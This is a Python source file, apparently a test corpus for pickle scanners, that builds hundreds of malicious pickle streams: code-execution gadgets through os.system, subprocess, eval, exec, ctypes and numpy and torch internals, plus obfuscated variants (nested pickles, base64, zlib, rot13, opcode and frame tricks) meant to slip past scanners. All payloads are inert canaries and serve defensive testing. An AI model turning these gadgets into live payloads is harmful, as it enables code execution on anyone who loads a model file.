"""Known ways to make an unpickler run something: by advisory class, one pickle each, all aimed at the word ``canary``.

The names come from what public scanners and their bypass reports list (fickling, picklescan, "Hide and Seek", PyTorch's and
numpy's own issues); the payloads are ours and harmless. ``pickle_jail.py`` reads each with Python's unpickler and ends at the first
audit event whose arguments contain the word, which proves the gadget live.
"""

from __future__ import annotations

import marshal
import pickle
import struct
import zlib
from collections.abc import Iterator

from pickle_world import (
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    FALSE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NONE,
    REDUCE,
    TRUE,
    array,
    call,
    dtype,
    integer,
    items,
    name,
    raw,
    run,
    stream,
    tensor,
    text,
    torch_blob,
)

WORD = "canary"
SHELL = "echo canary"
CODE = "open('canary')"
SYSTEM = run("os", "system", text(SHELL))


def listed(*values: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(values) + b"e"


def mapped(*pairs: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(pairs) + b"u"


ECHO = listed(text("echo"), text(WORD))
TWO = items(text("echo"), text(WORD))

# (module, function, arguments): one call is enough.
CALLS: tuple[tuple[str, str, tuple[bytes, ...]], ...] = (
    # shells and processes
    ("os", "system", (text(SHELL),)),
    ("posix", "system", (text(SHELL),)),
    ("os", "popen", (text(SHELL),)),
    ("os", "execv", (text("/bin/canary"), TWO)),
    ("os", "execve", (text("/bin/canary"), TWO, EMPTY_DICT)),
    ("posix", "execv", (text("/bin/canary"), TWO)),
    ("os", "posix_spawn", (text("/bin/canary"), TWO, EMPTY_DICT)),
    ("posix", "posix_spawn", (text("/bin/canary"), TWO, EMPTY_DICT)),
    ("subprocess", "Popen", (ECHO,)),
    ("subprocess", "run", (ECHO,)),
    ("subprocess", "call", (ECHO,)),
    ("subprocess", "check_call", (ECHO,)),
    ("subprocess", "check_output", (ECHO,)),
    ("subprocess", "getoutput", (text(SHELL),)),
    ("subprocess", "getstatusoutput", (text(SHELL),)),
    ("pty", "spawn", (ECHO,)),
    ("uuid", "_get_command_stdout", (text("ls"), text(WORD))),
    ("ctypes.util", "_findLib_gcc", (text(WORD),)),
    ("ctypes.util", "find_library", (text(WORD),)),
    ("_osx_support", "_read_output", (text(SHELL),)),
    ("_aix_support", "_read_cmd_output", (text(SHELL),)),
    ("pydoc", "pipepager", (text("x"), text(SHELL))),
    ("pydoc", "tempfilepager", (text("x"), text(SHELL))),
    ("asyncio.base_subprocess", "subprocess.Popen", (ECHO,)),
    ("test.support.script_helper", "spawn_python", (text("-c"), text(WORD))),
    ("test.support.script_helper", "assert_python_ok", (text("-c"), text(WORD))),
    ("distutils.spawn", "spawn", (ECHO,)),
    ("imaplib", "IMAP4_stream", (text(SHELL),)),
    ("ensurepip", "_run_pip", (listed(text(WORD)),)),
    ("venv", "subprocess.check_output", (ECHO,)),
    ("mailcap", "findmatch", (mapped(text("a/b"), listed(mapped(text("test"), text("echo canary")))), text("a/b"))),
    # code
    ("builtins", "eval", (text(CODE),)),
    ("builtins", "exec", (text(CODE),)),
    ("__builtin__", "eval", (text(CODE),)),
    ("builtins", "compile", (text(CODE), text(WORD), text("eval"))),
    ("builtins", "open", (text(WORD),)),
    ("builtins", "__import__", (text(WORD),)),
    ("io", "open", (text(WORD),)),
    ("_io", "FileIO", (text(WORD),)),
    ("codecs", "open", (text(WORD),)),
    ("code", "InteractiveInterpreter.runsource", (run("code", "InteractiveInterpreter"), text(CODE), text(WORD), text("eval"))),
    ("code", "compile_command", (text(CODE), text(WORD))),
    ("codeop", "compile_command", (text(CODE), text(WORD))),
    ("ast", "parse", (text(CODE), text(WORD))),
    ("symtable", "symtable", (text(CODE), text(WORD), text("exec"))),
    ("timeit", "timeit", (text(CODE),)),
    ("timeit", "repeat", (text(CODE),)),
    ("timeit", "main", (listed(text(CODE)),)),
    ("profile", "run", (text(CODE),)),
    ("profile", "Profile.run", (run("profile", "Profile"), text(CODE))),
    ("cProfile", "run", (text(CODE),)),
    ("cProfile", "runctx", (text(CODE), EMPTY_DICT, EMPTY_DICT)),
    ("trace", "Trace.run", (run("trace", "Trace"), text(CODE))),
    ("bdb", "Bdb.run", (run("bdb", "Bdb"), text(CODE))),
    ("pdb", "run", (text(CODE),)),
    ("doctest", "debug_script", (text(CODE),)),
    ("doctest", "testsource", (text(WORD), text(WORD))),
    ("runpy", "run_path", (text(WORD),)),
    ("runpy", "run_module", (text(WORD),)),
    ("importlib", "import_module", (text(WORD),)),
    ("importlib.util", "find_spec", (text("canary.inner"),)),
    (
        "importlib.machinery",
        "SourceFileLoader.load_module",
        (run("importlib.machinery", "SourceFileLoader", text("a"), text(WORD)),),
    ),
    ("pkgutil", "resolve_name", (text("canary:x"),)),
    ("pkgutil", "get_data", (text(WORD), text("x"))),
    ("pydoc", "locate", (text(WORD),)),
    ("pydoc", "safeimport", (text(WORD),)),
    ("pydoc", "importfile", (text(WORD),)),
    ("logging.config", "fileConfig", (text(WORD),)),
    ("logging.config", "_resolve", (text(WORD),)),
    ("logging", "FileHandler", (text(WORD),)),
    ("zipimport", "zipimporter", (text(WORD),)),
    ("site", "addpackage", (text("/tmp"), text("canary"), NONE)),
    ("lib2to3.pgen2.pgen", "ParserGenerator", (text(WORD),)),
    ("lib2to3.pgen2.grammar", "Grammar.load", (run("lib2to3.pgen2.grammar", "Grammar"), text(WORD))),
    ("idlelib.rpc", "unpickle_code", (raw(b"canary"),)),
    ("tokenize", "open", (text(WORD),)),
    ("fileinput", "hook_compressed", (text(WORD), text("r"))),
    ("configparser", "ConfigParser.read", (run("configparser", "ConfigParser"), text(WORD))),
    # files
    ("os", "remove", (text(WORD),)),
    ("os", "rename", (text(WORD), text(WORD))),
    ("os", "mkdir", (text(WORD),)),
    ("os", "rmdir", (text(WORD),)),
    ("os", "chmod", (text(WORD), integer(0))),
    ("os", "link", (text(WORD), text(WORD))),
    ("os", "symlink", (text(WORD), text(WORD))),
    ("os", "truncate", (text(WORD), integer(0))),
    ("os", "open", (text(WORD), integer(0))),
    ("os", "listdir", (text(WORD),)),
    ("os", "putenv", (text(WORD), text(WORD))),
    ("posix", "putenv", (text(WORD), text(WORD))),
    ("shutil", "rmtree", (text(WORD),)),
    ("shutil", "copyfile", (text(WORD), text(WORD))),
    ("shutil", "move", (text(WORD), text(WORD))),
    ("shutil", "unpack_archive", (text("canary.tar"), text(WORD), text("tar"))),
    ("glob", "glob", (text("canary*"),)),
    ("tempfile", "mkdtemp", (text(WORD),)),
    ("pathlib", "Path.write_text", (run("pathlib", "Path", text(WORD)), text("x"))),
    ("pathlib", "Path.unlink", (run("pathlib", "Path", text(WORD)),)),
    ("sqlite3", "connect", (text(WORD),)),
    ("dbm", "open", (text(WORD),)),
    ("dbm.dumb", "open", (text(WORD),)),
    ("shelve", "open", (text(WORD),)),
    ("tarfile", "open", (text(WORD),)),
    ("zipfile", "ZipFile", (text(WORD),)),
    ("gzip", "open", (text(WORD),)),
    ("bz2", "open", (text(WORD),)),
    ("lzma", "open", (text(WORD),)),
    ("mailbox", "mbox", (text(WORD),)),
    ("netrc", "netrc", (text(WORD),)),
    ("wave", "open", (text(WORD),)),
    # network
    ("socket", "getaddrinfo", (text("canary.invalid"), integer(1))),
    ("socket", "gethostbyname", (text("canary.invalid"),)),
    ("socket", "create_connection", (items(text("canary.invalid"), integer(1)),)),
    ("urllib.request", "urlopen", (text("http://canary.invalid/"),)),
    ("urllib.request", "urlretrieve", (text("http://canary.invalid/"),)),
    ("http.client", "HTTPConnection.connect", (run("http.client", "HTTPConnection", text("canary.invalid")),)),
    ("ftplib", "FTP", (text("canary.invalid"),)),
    ("smtplib", "SMTP", (text("canary.invalid"),)),
    ("poplib", "POP3", (text("canary.invalid"),)),
    ("imaplib", "IMAP4", (text("canary.invalid"),)),
    ("telnetlib", "Telnet", (text("canary.invalid"),)),
    ("nntplib", "NNTP", (text("canary.invalid"),)),
    ("ssl", "get_server_certificate", (items(text("canary.invalid"), integer(1)),)),
    ("asyncio", "run", (run("asyncio", "open_connection", text("canary.invalid"), integer(1)),)),
    # memory and libraries
    ("ctypes", "CDLL", (text(WORD),)),
    ("ctypes", "PyDLL", (text(WORD),)),
    ("ctypes", "cdll.LoadLibrary", (text(WORD),)),
    ("_ctypes", "dlopen", (text(WORD), integer(2))),
    ("syslog", "openlog", (text(WORD),)),
    # numpy's own
    ("numpy.testing._private.utils", "runstring", (text(CODE), EMPTY_DICT)),
    ("numpy.f2py.diagnose", "run_command", (text(SHELL),)),
    ("numpy.f2py.crackfortran", "myeval", (text(CODE),)),
    ("numpy.f2py.crackfortran", "getlincoef", (text(CODE), EMPTY_DICT)),
    ("numpy.f2py.crackfortran", "param_eval", (text(CODE), EMPTY_DICT, EMPTY_DICT)),
    ("numpy", "load", (text(WORD), NONE, TRUE)),
    ("numpy", "fromfile", (text(WORD),)),
    ("numpy", "memmap", (text(WORD),)),
    ("numpy", "loadtxt", (text(WORD),)),
    ("numpy", "genfromtxt", (text(WORD),)),
    ("numpy", "save", (text(WORD), EMPTY_LIST)),
    ("numpy", "savez", (text(WORD),)),
    ("numpy.lib.npyio", "DataSource.open", (run("numpy.lib.npyio", "DataSource", NONE), text(WORD))),
    ("numpy.ctypeslib", "load_library", (text(WORD), text("/"))),
    # torch's own
    ("torch", "load", (text(WORD),)),
    ("torch.hub", "load", (text(WORD), text(WORD))),
    ("torch.serialization", "load", (text(WORD),)),
    ("torch.utils.cpp_extension", "load", (text(WORD), text(WORD))),
    ("torch.utils._config_module", "load_config", (raw(b"canary"),)),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (text(CODE), EMPTY_DICT)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (text(CODE), EMPTY_DICT, EMPTY_DICT)),
    ("torch.distributed.rpc.internal", "_InternalRPCPickler.deserialize", (text(WORD),)),
    # other packages that are often there
    ("joblib", "load", (text(WORD),)),
    ("pandas", "read_pickle", (text(WORD),)),
    ("pip._internal", "main", (listed(text("install"), text(WORD)),)),
    ("setuptools._distutils.spawn", "spawn", (ECHO,)),
    ("IPython", "start_ipython", (listed(text("-c"), text(WORD)),)),
    ("cloudpickle", "loads", (raw(stream(SYSTEM)),)),
    ("dill", "loads", (raw(stream(SYSTEM)),)),
    ("nt", "system", (text(SHELL),)),
)


def shaped() -> Iterator[tuple[str, bytes]]:
    """One shell command, reached through every opcode and detour."""
    system, arg = name("os", "system"), text(SHELL)
    for protocol in (2, 3, 4, 5):
        yield f"GLOBAL at protocol {protocol}", stream(b"cos\nsystem\n", b"X\x0b\x00\x00\x00echo canary\x85R", protocol=protocol)
    yield "INST", stream(b"(", arg, b"ios\nsystem\n")
    yield "OBJ", stream(b"(", system, arg, b"o")
    yield "OBJ then POP, a hidden call", stream(b"(", system, arg, b"o0N")
    yield "REDUCE then POP, a hidden call", stream(system, items(arg), REDUCE, b"0N")
    yield "REDUCE then POP_MARK, a hidden call", stream(MARK, system, items(arg), REDUCE, b"1N")
    yield (
        "NEWOBJ of a process",
        stream(name("subprocess", "Popen"), items(ECHO), NEWOBJ, mapped(), BUILD, run("subprocess", "call", ECHO)),
    )
    yield "NEWOBJ_EX of a file", stream(name("_io", "FileIO"), EMPTY_TUPLE, mapped(), b"\x92", run("_io", "FileIO", text(WORD)))
    yield (
        "name by way of the memo",
        stream(text("os"), MEMOIZE, b"0", text("system"), MEMOIZE, b"0h\x00h\x01\x93", items(arg), REDUCE),
    )
    yield "name by way of PUT and GET", stream(text("os"), b"p0\n0", text("system"), b"p1\n0g0\ng1\n\x93", items(arg), REDUCE)
    yield "names out of a tuple", stream(items(text("os"), text("system")), b"0", system, items(arg), REDUCE)
    yield "name by DUP", stream(system, b"2", items(arg), REDUCE, b"\x86")
    yield "name of text UNICODE", stream(b"Vos\nVsystem\n\x93", items(arg), REDUCE)
    yield "name of STRING", stream(b"S'os'\nS'system'\n\x93", items(arg), REDUCE)
    yield "argument of INT lines", stream(name("builtins", "eval"), items(text(CODE), b"}", b"}"), REDUCE, b"I01\n\x86")
    yield "dotted through a module", stream(run("pathlib", "os.system", arg))
    yield "dotted through two modules", stream(run("logging", "os.sys.modules.__class__"), run("glob", "os.system", arg), b"\x86")
    yield "dotted through a class", stream(run("builtins", "eval.__call__", text(CODE)))
    yield "through a third module", stream(run("shutil", "os.system", arg))
    yield "through tarfile", stream(run("tarfile", "os.system", arg))
    yield (
        "getattr on a module",
        stream(call(run("builtins", "getattr", run("importlib", "import_module", text("os")), text("system")), arg)),
    )
    yield (
        "attrgetter",
        stream(call(call(run("operator", "attrgetter", text("system")), run("importlib", "import_module", text("os"))), arg)),
    )
    yield (
        "methodcaller",
        stream(call(run("operator", "methodcaller", text("system"), arg), run("importlib", "import_module", text("os")))),
    )
    yield "itemgetter of globals", stream(call(call(run("operator", "itemgetter", text("system")), name("os", "__dict__")), arg))
    yield "partial", stream(call(run("functools", "partial", system, arg)))
    yield "functools.reduce", stream(run("functools", "reduce", name("os", "rename"), items(text(WORD), text(WORD))))
    yield "map and list", stream(run("builtins", "list", run("builtins", "map", system, items(arg))))
    yield "map and tuple by NEWOBJ", stream(name("builtins", "tuple"), items(run("builtins", "map", system, items(arg))), NEWOBJ)
    yield "filter and bytes", stream(run("builtins", "bytes", run("builtins", "filter", system, items(arg))))
    yield "iter and next", stream(run("builtins", "next", run("builtins", "map", system, items(arg))))
    yield "starmap", stream(run("builtins", "list", run("itertools", "starmap", system, items(items(arg)))))
    yield "deque of map", stream(run("collections", "deque", run("builtins", "map", system, items(arg))))
    yield "Counter of map", stream(run("collections", "Counter", run("builtins", "map", system, items(arg))))
    yield "OrderedDict of map", stream(run("collections", "OrderedDict", run("builtins", "map", system, items(arg))))
    yield (
        "sorted with a key",
        stream(run("functools", "partial", system), run("builtins", "max", run("builtins", "map", system, items(arg))), b"\x86"),
    )
    yield (
        "defaultdict factory",
        stream(run("operator", "getitem", run("collections", "defaultdict", run("functools", "partial", system, arg)), text("x"))),
    )
    yield "operator.call", stream(run("operator", "call", system, arg))
    yield "weakref.finalize", stream(call(run("weakref", "finalize", name("os", "environ"), system, arg)))
    yield "atexit", stream(run("atexit", "register", system, arg), run("atexit", "_run_exitfuncs"), b"\x86")
    yield "threading.Thread.run", stream(run("threading", "Thread.run", run("threading", "Thread", NONE, system, NONE, items(arg))))
    yield (
        "a work item of a thread pool",
        stream(
            run(
                "concurrent.futures.thread",
                "_WorkItem.run",
                run("concurrent.futures.thread", "_WorkItem", run("concurrent.futures", "Future"), system, items(arg), mapped()),
            )
        ),
    )
    yield (
        "contextlib.ExitStack.callback",
        stream(run("contextlib", "ExitStack.callback", run("contextlib", "ExitStack"), system, arg), SYSTEM, b"\x86"),
    )
    yield (
        "types.FunctionType of marshalled code",
        stream(
            call(run("types", "FunctionType", run("marshal", "loads", raw(marshal.dumps(compile(CODE, WORD, "eval")))), mapped()))
        ),
    )
    yield "marshal.loads", stream(run("marshal", "loads", raw(marshal.dumps(compile(CODE, WORD, "eval")))))
    yield "code by zlib", stream(run("builtins", "exec", run("zlib", "decompress", raw(zlib.compress(CODE.encode())))))
    yield "code by base64", stream(run("builtins", "eval", run("base64", "b64decode", raw(b"b3BlbignY2FuYXJ5Jyk="))))
    yield "code by codecs", stream(run("builtins", "eval", run("codecs", "decode", text("bcra('pnanel')"), text("rot13"))))
    yield "pickle in a pickle", stream(run("pickle", "loads", raw(stream(SYSTEM))))
    yield "_pickle in a pickle", stream(run("_pickle", "loads", raw(stream(SYSTEM))))
    yield (
        "Unpickler in a pickle",
        stream(run("_pickle", "Unpickler.load", run("_pickle", "Unpickler", run("io", "BytesIO", raw(stream(SYSTEM)))))),
    )
    yield (
        "pickle three deep",
        stream(
            run("pickle", "loads", raw(stream(run("pickle", "loads", raw(stream(run("pickle", "loads", raw(stream(SYSTEM)))))))))
        ),
    )
    yield "numpy.load of a pickle", stream(run("numpy", "load", run("io", "BytesIO", raw(stream(SYSTEM))), NONE, TRUE))
    yield (
        "copyreg._reconstructor",
        stream(run("copyreg", "_reconstructor", name("_io", "FileIO"), name("builtins", "object"), NONE), SYSTEM, b"\x86"),
    )
    yield "copyreg.__newobj__", stream(run("copyreg", "__newobj__", name("builtins", "object")), SYSTEM, b"\x86")
    yield (
        "copyreg.add_extension then EXT1",
        stream(run("copyreg", "add_extension", text("os"), text("system"), integer(7)), b"0\x82\x07", items(arg), REDUCE),
    )
    yield (
        "EXT2",
        stream(run("copyreg", "add_extension", text("os"), text("system"), integer(700)), b"0\x83\xbc\x02", items(arg), REDUCE),
    )
    yield (
        "EXT4",
        stream(
            run("copyreg", "add_extension", text("os"), text("system"), integer(70000)),
            b"0\x84\x70\x11\x01\x00",
            items(arg),
            REDUCE,
        ),
    )
    yield "BUILD of __dict__", stream(run("types", "SimpleNamespace"), mapped(text("__class__"), text("x")), BUILD, b"0", SYSTEM)
    yield (
        "BUILD through __setstate__",
        stream(run("types", "SimpleNamespace"), mapped(text("__setstate__"), system), BUILD, arg, BUILD),
    )
    yield (
        "BUILD on a class",
        stream(
            name("pathlib", "PurePath"),
            items(NONE, mapped(text("__setstate__"), system)),
            BUILD,
            b"0",
            call(name("pathlib", "PurePath.__setstate__"), arg),
        ),
    )
    yield (
        "BUILD of slots on a module",
        stream(
            run("importlib", "import_module", text("json")),
            items(NONE, mapped(text("loads"), system)),
            BUILD,
            b"0",
            run("json", "loads", arg),
        ),
    )
    yield "SETITEM on a module's globals", stream(name("json", "__dict__"), text("loads"), system, b"s0", run("json", "loads", arg))
    yield (
        "SETITEMS on sys.modules",
        stream(
            name("sys", "modules"),
            MARK,
            text("json"),
            run("importlib", "import_module", text("os")),
            b"u0",
            run("json", "system", arg),
        ),
    )
    yield "APPEND to sys.path", stream(name("sys", "path"), text(WORD), b"a0", run("importlib", "import_module", text(WORD)))
    yield "APPENDS through a method", stream(run("types", "SimpleNamespace"), mapped(text("append"), system), BUILD, arg, b"a")
    yield (
        "APPENDS through extend",
        stream(
            run("types", "SimpleNamespace"), mapped(text("extend"), run("functools", "partial", system, arg)), BUILD, b"0", SYSTEM
        ),
    )
    yield "SETITEM through a class", stream(run("collections", "ChainMap"), text("k"), SYSTEM, b"s")
    yield "ADDITEMS", stream(b"\x8f(", SYSTEM, b"\x90")
    yield "FROZENSET", stream(b"(", SYSTEM, b"\x91")
    yield "as a dict key", stream(EMPTY_DICT, SYSTEM, NONE, b"s")
    yield "as a dict value", stream(mapped(text("state"), SYSTEM))
    yield "inside a list of actions", stream(listed(mapped(text("action"), SYSTEM)))
    yield "as the state of a dataclass", stream(run("types", "SimpleNamespace"), SYSTEM, b"0", mapped(text("x"), SYSTEM), BUILD)
    yield (
        "as the shape of an array",
        stream(
            run("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), items(integer(0)), raw(b"b")),
            items(integer(1), items(SYSTEM), dtype(), FALSE, raw(b"")),
            BUILD,
        ),
    )
    yield "as an object of an array", stream(array((1,), dtype("O8", "|", 63), listed(SYSTEM)))
    yield "as the state of a dtype", stream(run("numpy", "dtype", text("f4"), FALSE, TRUE), items(integer(3), SYSTEM), BUILD)
    yield "as an argument of numpy's scalar", stream(run("numpy.core.multiarray", "scalar", dtype(), SYSTEM))
    yield (
        "array of another class",
        stream(
            run("numpy.core.multiarray", "_reconstruct", name("numpy", "memmap"), items(integer(0)), raw(b"b")), SYSTEM, b"\x86"
        ),
    )
    yield "scalar of an object", stream(run("numpy.core.multiarray", "scalar", dtype("O8", "|", 63), SYSTEM))
    yield "_frombuffer of a call", stream(run("numpy._core.numeric", "_frombuffer", SYSTEM, dtype(), items(), text("C")))
    yield (
        "frame that ends inside a string",
        stream(b"\x95" + struct.pack("<Q", 6), text("os"), text("system"), b"\x93", items(arg), REDUCE),
    )
    yield (
        "frame in a frame",
        stream(b"\x95" + struct.pack("<Q", len(SYSTEM) + 10), b"\x95" + struct.pack("<Q", len(SYSTEM)), SYSTEM),
    )
    yield "frame that hides another program", stream(b"\x95" + struct.pack("<Q", 4), b"N0N0", SYSTEM)
    yield "PROTO in the middle", stream(b"\x80\x02", SYSTEM)
    yield "no PROTO, protocol 0", b"cos\nsystem\n(S'echo canary'\ntR."
    yield "no PROTO, protocol 1", b"cos\nsystem\nq\x00(U\x0becho canarytR."
    yield "a second pickle behind STOP", stream(SYSTEM) + stream(SYSTEM)
    yield "BINPERSID beside a call", stream(SYSTEM, b"0", name("os", "system"), items(arg), REDUCE)
    yield "LONG text int beside a call", stream(b"L1L\n", SYSTEM, b"\x86")
    yield "FLOAT text beside a call", stream(b"F1.5\n", SYSTEM, b"\x86")
    yield "Record with a __reduce__", pickle.dumps(Reduces(), 4)


class Reduces:
    def __reduce__(self) -> tuple[object, ...]:
        return (eval, (CODE,))


def dead() -> Iterator[tuple[str, bytes]]:
    """Gadgets that need what this machine may not have, or that hurt without an audit event: inert here all the same."""
    yield "torch: pickle as the magic number", stream(tensor(torch_blob(magic=stream(SYSTEM))))
    yield "torch: pickle as the storage", stream(tensor(torch_blob(storage=stream(SYSTEM))))
    yield "torch: GLOBAL of a call as storage class", stream(tensor(torch_blob("os\nsystem")))
    yield "torch: not a torch stream", stream(tensor(stream(SYSTEM)))
    yield "torch: offset beyond the storage", stream(tensor(torch_blob(), offset=10**6))
    yield "torch: stride beyond the storage", stream(tensor(torch_blob(), size=(2,), stride=(10**6,)))
    yield "torch: repeats to 4 TiB", stream(tensor(torch_blob(), size=(2**20, 2**20), stride=(0, 0)))
    yield "torch: sparse tensor", stream(run("torch._utils", "_rebuild_sparse_tensor", name("torch", "sparse_coo"), EMPTY_TUPLE))
    yield "torch: quantized tensor", stream(run("torch._utils", "_rebuild_qtensor", EMPTY_TUPLE))
    yield (
        "torch: _rebuild_wrapper_subclass",
        stream(run("torch._utils", "_rebuild_wrapper_subclass", name("os", "system"), text(SHELL))),
    )
    yield (
        "torch: _rebuild_from_type_v2 of any function",
        stream(
            run("torch._tensor", "_rebuild_from_type_v2", name("os", "system"), name("torch", "Tensor"), items(text(SHELL)), NONE)
        ),
    )
    yield "numpy: object field, flags 0", stream(array((1,), dtype("V8", "|"), raw(b"\x41" * 8)))
    yield (
        "numpy: field offset of 1 GiB",
        stream(
            run("numpy", "dtype", text("V8"), FALSE, TRUE),
            items(
                integer(3),
                text("|"),
                NONE,
                items(text("a")),
                mapped(text("a"), items(dtype(), integer(2**30))),
                integer(8),
                integer(1),
                integer(0),
            ),
            BUILD,
        ),
    )
    yield "numpy: ndarray called, uninitialised", stream(run("numpy", "ndarray", items(integer(4096)), text("f8")))
    yield "numpy: ndarray called, 2 GiB", stream(run("numpy", "ndarray", items(integer(2**28)), text("f8")))
    yield "numpy: pointer as object data", stream(array((1,), dtype("O8", "|", 63), raw(b"\x41" * 8)))
    yield (
        "numpy: object array by _frombuffer",
        stream(run("numpy._core.numeric", "_frombuffer", raw(b"\x41" * 8), dtype("O8", "|", 63), items(integer(1)), text("C"))),
    )
    yield "numpy: object scalar by bytes", stream(run("numpy.core.multiarray", "scalar", dtype("O8", "|", 63), raw(b"\x41" * 8)))
    yield "numpy: dtype never completed", stream(array((1,), run("numpy", "dtype", text("f4"), FALSE, TRUE), raw(bytes(4))))
    yield "persistent id", stream(text("canary"), b"Q")
    yield "persistent id, text", stream(b"Pcanary\n")
    yield "out-of-band buffer", stream(b"\x97", protocol=5)
    yield "read-only out-of-band buffer", stream(b"\x97\x98", protocol=5)
    yield "bytearray of 2 GiB", stream(run("builtins", "bytearray", integer(2**31 - 1)))
    yield "a list that contains itself", stream(EMPTY_LIST, MEMOIZE, b"h\x00a")
    yield "BINSTRING with a negative length", stream(b"T\xff\xff\xff\xff")


GADGETS: dict[str, bytes] = {
    **{f"{module}.{function}": stream(run(module, function, *args)) for module, function, args in CALLS},
    **dict(shaped()),
}
DEAD: dict[str, bytes] = dict(dead())
